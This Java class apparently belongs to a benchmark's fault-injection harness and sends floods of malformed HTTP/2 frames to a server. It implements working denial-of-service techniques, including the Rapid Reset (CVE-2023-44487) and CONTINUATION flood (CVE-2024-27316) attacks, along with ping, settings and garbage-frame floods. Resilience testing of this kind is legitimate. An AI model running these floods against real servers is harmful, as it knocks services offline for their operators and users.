package dev.daogou.bench.faults;

import static java.nio.charset.StandardCharsets.US_ASCII;

import java.io.IOException;
import java.io.OutputStream;
import java.nio.ByteBuffer;
import java.util.Random;

/**
 * Floods of HTTP/2 (RFC 9113) without any sense: settings, pings, streams that are opened and reset
 * at once (CVE-2023-44487), headers that never end (CVE-2024-27316), and rubbish.
 */
final class HostileFrames implements PacedNoise.Act {
  private static final byte[] PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(US_ASCII);
  private static final int FRAMES = 500;
  private static final byte DATA = 0;
  private static final byte HEADERS = 1;
  private static final byte RESET = 3;
  private static final byte SETTINGS = 4;
  private static final byte PING = 6;
  private static final byte CONTINUATION = 9;
  private static final byte END_OF_HEADERS_AND_STREAM = 5;
  private static final int HEAD = 9;
  // :method GET, :scheme http, :path /, from the static table of HPACK.
  private static final byte[] GET = {(byte) 0x82, (byte) 0x86, (byte) 0x84};

  private final Doors doors;

  HostileFrames(Doors doors) {
    this.doors = doors;
  }

  @Override
  public int run(Random random) throws IOException {
    try (RawConnection connection = new RawConnection(doors.address(random.nextInt()))) {
      OutputStream out = connection.out();
      out.write(PREFACE);
      frame(out, SETTINGS, 0, 0, new byte[0]);
      int kind = random.nextInt(5);
      if (kind == 3) {
        frame(out, HEADERS, 0, 1, GET);
      }
      for (int i = 0; i < FRAMES; i++) {
        flood(out, kind, 1 + 2 * i, random);
      }
      out.flush();
      connection.answers();
    }
    return 1;
  }

  private static void flood(OutputStream out, int kind, int stream, Random random)
      throws IOException {
    switch (kind) {
      case 0 -> frame(out, SETTINGS, 0, 0, new byte[] {0, 4, 0, 0, (byte) 255, (byte) 255});
      case 1 -> frame(out, PING, 0, 0, new byte[8]);
      case 2 -> {
        frame(out, HEADERS, END_OF_HEADERS_AND_STREAM, stream, GET);
        frame(out, RESET, 0, stream, new byte[] {0, 0, 0, 8});
      }
      case 3 -> frame(out, CONTINUATION, 0, 1, Mutation.noise(200, random));
      default ->
          frame(
              out,
              (byte) (DATA + random.nextInt(12)),
              random.nextInt(256),
              random.nextInt(9),
              Mutation.noise(random.nextInt(100), random));
    }
  }

  private static void frame(OutputStream out, byte type, int flags, int stream, byte[] content)
      throws IOException {
    ByteBuffer frame = ByteBuffer.allocate(HEAD + content.length);
    frame.put((byte) (content.length >> 16)).putShort((short) content.length);
    frame.put(type).put((byte) flags).putInt(stream).put(content);
    out.write(frame.array());
  }
}
